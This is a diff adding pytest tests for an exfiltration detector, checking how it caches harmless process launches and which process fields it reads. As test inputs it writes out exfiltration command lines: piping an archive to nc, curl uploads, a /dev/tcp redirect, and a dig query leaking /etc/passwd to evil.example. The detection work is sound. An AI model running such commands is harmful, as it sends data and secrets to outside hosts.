@@ -458,3 +458,89 @@ def test_gh_release_upload_is_an_upload_to_github() -> None:
     assert (signal.kind, signal.destination.host) == (SignalKind.UPLOAD, "github.com")
     assert "dist/cli.tar.gz" in signal.sent_paths
     assert detector.signals(launch("gh release list")) == []
+
+
+def test_a_quiet_start_is_analysed_again_when_its_parent_pipes_into_it() -> None:
+    """A start remembered as raising nothing is only skipped when everything read is equal:
+    the same child under a shell that feeds it a file is an upload."""
+    fresh = Detector()
+    assert fresh.signals(launch("nc 203.0.113.9 4444")) == []
+    piping = "/bin/sh -c 'cat /tmp/a.tgz | nc 203.0.113.9 4444'"
+    again = fresh.signals(launch("nc 203.0.113.9 4444", parent_cmd=piping))
+    assert [s.kind for s in again] == [SignalKind.UPLOAD]
+    assert [s.kind for s in fresh.signals(launch("nc 203.0.113.9 4444", path="/bin/busybox"))] == []
+
+
+_READ: set[str] = set()
+_PARENT_READ: set[str] = set()
+
+
+class _Spy(Process, frozen=True, gc=False):
+    """A process that records which of its fields the detector reads."""
+
+    def __getattribute__(self, name: str) -> object:
+        if not name.startswith("_"):
+            _READ.add(name)
+        return super().__getattribute__(name)
+
+
+class _ParentSpy(Process, frozen=True, gc=False):
+    def __getattribute__(self, name: str) -> object:
+        if not name.startswith("_"):
+            _PARENT_READ.add(name)
+        return super().__getattribute__(name)
+
+
+@pytest.mark.parametrize(
+    ("cmd", "parent"),
+    [
+        ("tar -czf /tmp/a.tgz /data", None),
+        ("/tmp/pack -czf /tmp/a.tgz /data", None),
+        ("nc 203.0.113.9 4444", "/bin/sh -c 'cat /tmp/a.tgz | nc 203.0.113.9 4444'"),
+        ("bash -c 'tar czf - /d | curl -T - https://203.0.113.9/u'", "/bin/bash"),
+        ("curl -F f=@/tmp/a.tgz https://203.0.113.9/u", None),
+        ("busybox tar czf /tmp/a.tgz /etc", None),
+        ("/bin/toybox -czf /tmp/a.tgz /etc", None),
+        ("powershell -c Compress-Archive -Path C:\\d -DestinationPath C:\\a.zip", None),
+        ('python3 -c \'import tarfile; tarfile.open("/tmp/a.tgz", "w:gz")\'', None),
+        ("bash -c 'cat /tmp/a.tgz > /dev/tcp/203.0.113.9/443'", None),
+        ("openssl enc -aes-256-cbc -in a.tgz -out a.enc", None),
+        ("split -b 10M a.tgz part.", None),
+        ("docker save app -o /tmp/app.tar", None),
+        ("dig $(cat /etc/passwd | base64).evil.example", None),
+        ("rclone copy /tmp/a.tgz remote:bucket", None),
+        ("ls -la /app", None),
+    ],
+)
+def test_the_quiet_key_holds_every_process_field_the_analysis_reads(
+    cmd: str, parent: str | None
+) -> None:
+    """launch_key must name every field a start's analysis reads, or a start equal in the key
+    but different in what was read would be skipped wrongly. A field the detector starts to
+    read fails this until it is added to the key."""
+    from tidewaiter.detection.signals import launch_key
+
+    base = launch(cmd, parent_cmd=parent)
+    assert base.process is not None
+    spied_parent = None
+    if base.process.parent is not None:
+        spied_parent = _ParentSpy(**msgspec.structs.asdict(base.process.parent))
+    fields = msgspec.structs.asdict(base.process) | {"parent": spied_parent}
+    event = msgspec.structs.replace(base, process=_Spy(**fields))
+    _READ.clear()
+    _PARENT_READ.clear()
+    Detector()._process(event)
+    assert "cmd_line" in _READ  # the spy sees reads
+    keyed = {"path", "cmd_line", "args", "original_name", "parent", "name"}
+    assert not _READ - keyed, _READ - keyed
+    assert not _PARENT_READ - {"path", "cmd_line"}, _PARENT_READ
+    assert len(launch_key(base.process)) == 6
+
+
+def test_only_short_quiet_starts_are_remembered() -> None:
+    """The remembered text is the attacker's: a long command line is analysed every time
+    rather than held."""
+    fresh = Detector()
+    fresh.signals(launch("ls " + "a" * 2000))
+    fresh.signals(launch("ls -la /app"))
+    assert len(fresh._quiet) == 1
